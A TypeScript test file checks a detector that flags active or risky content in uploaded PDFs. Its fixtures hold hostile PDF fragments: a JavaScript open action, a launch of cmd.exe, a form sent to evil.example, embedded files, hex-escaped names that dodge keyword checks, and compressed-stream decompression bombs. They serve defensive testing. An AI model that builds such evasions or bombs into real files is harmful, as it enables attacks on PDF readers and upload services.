import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { hasActiveContent } from '../../src/platform/active-pdf.ts';
import { MAX_DOCUMENT_BYTES } from '../../src/platform/documents.ts';

const pdfWith = (text: string | Buffer) => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(text as string)]);
/** Objects in a packed stream, as most writers of PDFs keep them today. */
const packed = (objects: string, dictionary = '/Type /ObjStm /Filter /FlateDecode') =>
  pdfWith(
    Buffer.concat([
      Buffer.from(`5 0 obj\n<< ${dictionary} >>\nstream\n`),
      deflateSync(Buffer.from(objects)),
      Buffer.from('\nendstream\nendobj\n'),
    ]),
  );
/** Packed bytes that come to nothing. */
const emptyBlocks = (count: number) =>
  Buffer.concat([
    Buffer.from('7801', 'hex'),
    Buffer.alloc(5 * count, Buffer.from('000000ffff', 'hex')),
    Buffer.from('010000ffff00000001', 'hex'),
  ]);
const OBJECTS = Buffer.from('<< /Type /ObjStm >>\nstream\n');
const streams = (count: number, bytes: Buffer) =>
  pdfWith(Buffer.concat(new Array<Buffer[]>(count).fill([OBJECTS, bytes]).flat()));
const MEGABYTE = 1024 * 1024;
const SCRIPT = '<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>';

describe('a PDF', () => {
  it.each([
    ['a script', pdfWith(SCRIPT)],
    ['a script whose name is written in numbers', pdfWith(SCRIPT.replace('/JavaScript', '/J#61va#53cript'))],
    ['a script in packed objects', packed(SCRIPT)],
    [
      'a script in packed objects behind a stream that misleads',
      pdfWith(Buffer.concat([Buffer.from('(stream\n) '), packed(SCRIPT)])),
    ],
    ['packed objects that cannot be read', packed('x', '/Type /ObjStm /Filter /LZWDecode').fill(0, 70)],
    [
      'packed objects behind a predictor',
      packed('x', '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>'),
    ],
    ['a program to start', pdfWith('<< /S /Launch /F (cmd.exe) >>')],
    ['a file within', pdfWith('<< /Type /Filespec /EF << /F 7 0 R >> >> << /Type /EmbeddedFile >>')],
    ['a form that is sent', pdfWith('<< /S /SubmitForm /F (https://evil.example) >>')],
    ['a form of XFA', pdfWith('<< /AcroForm << /XFA 8 0 R >> >>')],
    ['a lock on it', pdfWith('trailer << /Encrypt 9 0 R >>')],
    [
      'a script in packed objects whose keyword has a space behind it',
      Buffer.from(packed(SCRIPT).toString('latin1').replace('stream\n', 'stream \n'), 'latin1'),
    ],
    ['packed objects of more than anybody needs', packed(' '.repeat(5 * MEGABYTE))],
    ['many millions of numbers in a few packed bytes', packed('#41'.repeat(6 * MEGABYTE))],
    ['packed objects that come to more than anybody needs together', streams(5, deflateSync(Buffer.alloc(MEGABYTE)))],
    ['more packed streams than anybody writes', streams(600, deflateSync(Buffer.from('<< >>')))],
    ['packed objects that take long to come to nothing', streams(2, emptyBlocks(450_000))],
  ])('with %s is not shown', async (_, bytes) => {
    expect(await hasActiveContent(bytes)).toBe(true);
  });

  it.each([
    ['pages alone', pdfWith('<< /Type /Catalog /OpenAction [ 3 0 R /Fit ] >> << /Type /Page /Contents 4 0 R >>')],
    ['packed objects', packed('<< /Type /Page >> (JavaScript is a word)')],
    ['many packed streams', streams(400, deflateSync(Buffer.from('<< /Type /Page >>')))],
    ['packed objects of a hundred pages', streams(10, deflateSync(Buffer.from('<< /Type /Page >>'.repeat(20_000))))],
    ['packed objects that come to nothing', streams(1, emptyBlocks(450_000))],
    ['a link', pdfWith('<< /Type /Annot /A << /S /URI /URI (https://cac.gov.ng) >> >>')],
    ['a name that only begins so', pdfWith('<< /JavaScripts 1 /Launched 2 /Soundness 3 >>')],
    [
      'a picture of noise',
      pdfWith(Buffer.from(Array.from({ length: 200_000 }, (_, at) => (at * 7_919 + (at >> 3)) % 256))),
    ],
  ])('with %s is shown', async (_, bytes) => {
    expect(await hasActiveContent(bytes)).toBe(false);
  });

  it('is looked through to its last byte, wherever a name or packed objects stand', async () => {
    // At each place around where one piece ends and the next begins.
    for (let at = 128 * 1024 - 40; at < 128 * 1024 + 4; at += 1) {
      const before = Buffer.alloc(at, ' ');
      expect(await hasActiveContent(Buffer.concat([before, Buffer.from('/J#61vaScript')]))).toBe(true);
      expect(await hasActiveContent(Buffer.concat([before, OBJECTS, deflateSync(Buffer.from(SCRIPT))]))).toBe(true);
    }
  });

  it.each(['#41', '/', '/#4aavaScrip', 'stream\n', 's'])(
    'as large as one may be, of nothing but %j, is looked through while others have their turns',
    async (text) => {
      let turns = 0;
      let counting = true;
      const count = () => {
        turns += 1;
        if (counting) setImmediate(count);
      };
      setImmediate(count);
      expect(await hasActiveContent(Buffer.alloc(MAX_DOCUMENT_BYTES, text))).toBe(false);
      counting = false;
      expect(turns).toBeGreaterThan(30);
    },
  );
});
